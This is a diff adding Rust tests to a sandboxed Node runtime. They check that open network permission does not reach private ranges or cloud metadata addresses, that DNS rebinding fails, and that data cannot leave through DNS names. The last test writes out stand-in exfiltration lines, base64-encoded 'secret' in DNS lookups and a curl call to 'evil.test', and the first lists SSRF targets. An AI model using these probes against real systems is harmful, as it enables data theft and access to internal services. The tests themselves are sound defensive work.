@@ -222,3 +222,155 @@ fn superuser_of_the_machine_cannot_change_a_read_only_mount() {
     );
     assert_eq!(host.path().read_dir().unwrap().count(), 1);
 }
+
+/// What a machine answers that may reach every public address, and whether anything reached the server of the host.
+fn attempts_at(
+    targets: &[String],
+    resolver: Option<Rebinding>,
+    server: &std::net::TcpListener,
+) -> String {
+    server.set_nonblocking(true).unwrap();
+    let port = server.local_addr().unwrap().port();
+    let seen = block_on(async {
+        let mut builder = NodeRuntime::builder().permissions(cenote::Permissions {
+            network: vec![cenote::NetworkRule::allow("*")],
+            ..cenote::Permissions::default()
+        });
+        if let Some(resolver) = resolver {
+            builder = builder.resolver(resolver);
+        }
+        let rt = builder.create().await.unwrap();
+        let code = format!(
+            r#"import net from "node:net";
+               for (const host of {targets:?})
+                   console.log(host, await new Promise((done) => net.connect({{ host, port: {port} }}).on("error", (e) => done(e.code)).on("connect", () => done("connected"))));"#
+        );
+        let out = rt.exec(code).await.unwrap();
+        format!("{}{}", out.stdout, out.stderr)
+    });
+    let nobody = server.accept().unwrap_err();
+    assert_eq!(nobody.kind(), std::io::ErrorKind::WouldBlock, "{seen}");
+    seen
+}
+
+/// Threat: a permission for the internet reaches the host's own services and its cloud's metadata, plainly or in disguise.
+#[test]
+fn open_network_does_not_open_the_hosts_own() {
+    let server = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
+    let targets = [
+        "169.254.169.254",
+        "10.0.0.1",
+        "172.16.0.1",
+        "192.168.0.1",
+        "100.64.0.1",
+        "0.1.2.3",
+        "224.0.0.1",
+        "255.255.255.255",
+        "::ffff:169.254.169.254",
+        "::ffff:10.0.0.1",
+        "::127.0.0.1",
+        "64:ff9b::127.0.0.1",
+        "64:ff9b::169.254.169.254",
+        "2002:7f00:1::",
+        "fd00:ec2::254",
+        "fe80::1",
+        "fc00::1",
+        "ff02::1",
+    ]
+    .map(str::to_owned);
+    let seen = attempts_at(&targets, None, &server);
+    for (line, target) in seen.lines().zip(&targets) {
+        assert_eq!(line, format!("{target} EACCES"), "{seen}");
+    }
+    assert_eq!(seen.lines().count(), targets.len(), "{seen}");
+    // The machine's loopback is its own.
+    let own = [
+        "127.0.0.1",
+        "127.1.2.3",
+        "::1",
+        "::ffff:127.0.0.1",
+        "0.0.0.0",
+        "::",
+    ]
+    .map(str::to_owned);
+    let seen = attempts_at(&own, None, &server);
+    assert!(
+        seen.lines().all(|line| line.ends_with(" ECONNREFUSED")),
+        "{seen}"
+    );
+}
+
+/// Answers each question with the next address, and the last for ever.
+#[derive(Debug)]
+struct Rebinding(std::sync::Mutex<Vec<std::net::IpAddr>>);
+
+impl cenote::Resolve for Rebinding {
+    fn resolve<'a>(&'a self, _name: &'a str) -> cenote::Resolving<'a> {
+        let mut answers = self.0.lock().unwrap();
+        let next = if answers.len() > 1 {
+            answers.remove(0)
+        } else {
+            answers[0]
+        };
+        Box::pin(async move { Ok(vec![next]) })
+    }
+}
+
+/// Threat: a name is public when it is checked and private when it is connected (DNS rebinding).
+#[test]
+fn name_that_changes_its_address_opens_nothing() {
+    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let resolver = Rebinding(std::sync::Mutex::new(
+        ["10.0.0.1", "169.254.169.254", "127.0.0.1"]
+            .map(|text| text.parse().unwrap())
+            .to_vec(),
+    ));
+    let targets = ["a.test", "a.test", "a.test", "a.test"].map(str::to_owned);
+    let seen = attempts_at(&targets, Some(resolver), &server);
+    assert!(
+        !seen.contains("connected") && seen.contains("EACCES") && seen.contains("ECONNREFUSED"),
+        "{seen}"
+    );
+}
+
+/// Threat: data leaves in the names a guest asks for.
+#[test]
+fn names_no_rule_allows_are_not_asked_for() {
+    #[derive(Debug)]
+    struct Never;
+    impl cenote::Resolve for Never {
+        fn resolve<'a>(&'a self, name: &'a str) -> cenote::Resolving<'a> {
+            panic!("asked for {name}");
+        }
+    }
+    block_on(async {
+        let rt = NodeRuntime::builder()
+            .permissions(cenote::Permissions {
+                network: vec![
+                    cenote::NetworkRule::allow("api.example.com:443"),
+                    cenote::NetworkRule::allow("192.0.2.0/24"),
+                ],
+                ..cenote::Permissions::default()
+            })
+            .resolver(Never)
+            .create()
+            .await
+            .unwrap();
+        let out = rt
+            .exec(
+                r#"import dns from "node:dns";
+                   const asks = [() => dns.promises.lookup("c2VjcmV0.evil.test"), () => dns.promises.resolveTxt("c2VjcmV0.evil.test"), () => dns.promises.resolve4("api.example.com.evil.test")];
+                   for (const ask of asks) console.log(await ask().catch((e) => e.code));"#,
+            )
+            .await
+            .unwrap();
+        assert_eq!(
+            out.stdout.text(),
+            "ENOTFOUND\nENOTFOUND\nENOTFOUND\n",
+            "{}",
+            out.stderr
+        );
+        let seen = shell(&rt, "curl -s http://c2VjcmV0.evil.test/; echo $?").await;
+        assert_eq!(seen, "6\n");
+    });
+}
